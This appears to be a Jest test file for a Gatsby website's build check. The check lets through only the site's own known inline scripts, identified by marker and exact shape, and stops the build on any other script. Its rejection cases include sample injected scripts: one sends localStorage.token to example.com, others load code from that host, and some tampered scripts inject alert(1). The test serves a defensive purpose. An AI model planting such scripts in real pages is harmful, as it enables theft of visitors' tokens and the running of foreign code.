/**
 * @jest-environment node
 */
// The inline scripts a page's policy may allow: the site's own, each known by its marker and exact shape
// (src/gatsby/inline-scripts.ts); anything else stops the build, naming the page and the script.
import fs from "node:fs";
import { consentAskScript } from "../src/components/shell/consent/consent-cookie";
import { inlineScriptTags, siteInlineScripts, siteScriptName } from "../src/gatsby/inline-scripts";
import { loadScriptsAfterPaint } from "../src/gatsby/scripts-after-paint";
import { schemeScript } from "../src/components/shell/scheme-switch/scheme";

const pagePath = `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/journal/un-articolo";/*]]>*/</script>`;
const chunkMap = `<script
            id="gatsby-chunk-mapping"
          >
            window.___chunkMapping=${JSON.stringify(JSON.stringify({ app: ["/app.0123.css", "/app-4567.js"], "component---src-pages-index-tsx": ["/component---src-pages-index-tsx-89ab.js"] }))};
          </script>`;
const compilationHash = `<script>window.___webpackCompilationHash="358d58ef985fc7cf422e";</script>`;
const consent = `<script>${consentAskScript("61f8b267")}</script>`;
const scheme = `<script>${schemeScript()}</script>`;
const loader = loadScriptsAfterPaint(`<script src="/webpack-runtime-1.js" async></script><script src="/app-2.js" async></script>`);
const jsonLd = `<script type="application/ld+json" data-gatsby-head="true">{"@type":"BlogPosting"}</script>`;
const sitePage = `<html><head>${scheme}${jsonLd}</head><body>${consent}<main></main>${pagePath}${chunkMap}${compilationHash}${loader}</body></html>`;

test("a page of the site's own scripts passes, each by name, its JSON-LD not counted", () => {
  expect(inlineScriptTags(sitePage).map(siteScriptName)).toEqual([
    "the scheme script (schemeScript)",
    "the consent script (consentAskScript)",
    "Gatsby's page path (#gatsby-script-loader)",
    "Gatsby's chunk map (#gatsby-chunk-mapping)",
    "Gatsby's compilation hash",
    "the script loader (scripts-after-paint.ts)",
  ]);
  expect(siteInlineScripts(sitePage, "public/journal/un-articolo.html")).toHaveLength(6);
});

test.each([
  ["a script of no marker", "<script>fetch('https://example.com/?t=' + localStorage.token)</script>"],
  ["a module", `<script type="module">import("https://example.com/x.js")</script>`],
  ["an import map", `<script type="importmap">{"imports":{}}</script>`],
  ["an old JavaScript type", `<script type="text/ecmascript">alert(1)</script>`],
  ["Gatsby's id on other code", `<script id="gatsby-script-loader">alert(1)</script>`],
  ["Gatsby's page path with more after it", `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/";alert(1);/*]]>*/</script>`],
  ["a chunk map naming another host", chunkMap.replace("/app-4567.js", "https://example.com/x.js")],
  ["the compilation hash with code after it", `<script>window.___webpackCompilationHash="358d";alert(1)</script>`],
  ["the scheme script changed", `<script>${schemeScript().replace("try{", "try{alert(1);")}</script>`],
  ["the consent script changed", `<script>${consentAskScript("61f8b267").replace("document.cookie;", "document.cookie;alert(1);")}</script>`],
  ["the loader loading another host's script", loader.replace('["/webpack-runtime-1.js"', '["https://example.com/x.js"')],
  ["the loader's marker on other code", `<script data-load-after-paint="">alert(1)</script>`],
])("%s stops the build, naming the page and the script", (_, script) => {
  const page = sitePage.replace("<main></main>", `<main>${script}</main>`);
  expect(() => siteInlineScripts(page, "public/journal/un-articolo.html")).toThrow(
    /src\/gatsby\/inline-scripts\.ts: public\/journal\/un-articolo\.html has an inline script the site does not write: <script/,
  );
});

test("a script tag with a src stops the build on a public page; the editors' /admin/ loads its bundles so", () => {
  const external = `<script defer src="/admin/vendor-0123.js"></script>`;
  expect(() => siteInlineScripts(sitePage.replace("<main></main>", external), "public/contatti.html")).toThrow(
    /public\/contatti\.html has a script tag no part of the site writes there: <script defer src="\/admin\/vendor-0123\.js">/,
  );
  expect(siteInlineScripts(`<html><head>${external}</head></html>`, "public/admin/index.html")).toEqual([]);
});

// The shapes above are the installed Gatsby's: if it writes them otherwise, every page stops the build (here first).
test("Gatsby still writes its scripts in the shapes the site knows", () => {
  const staticEntry = fs.readFileSync(require.resolve("gatsby/cache-dir/static-entry.js"), "utf8");
  expect(staticEntry).toContain("const windowPageData = `/*<![CDATA[*/window.pagePath=${JSON.stringify(");
  expect(staticEntry).toContain("id={`gatsby-script-loader`}");
  const extractor = fs.readFileSync(require.resolve("gatsby/dist/utils/gatsby-webpack-stats-extractor.js"), "utf8");
  expect(extractor).toContain("const scriptChunkMapping = `window.___chunkMapping=${JSON.stringify(newChunkMapJson)};`;");
  expect(extractor).toContain('id="gatsby-chunk-mapping"');
  expect(extractor).toContain('const hashSliceContents = `<script>window.___webpackCompilationHash="${stats.hash}";</script>`;');
});
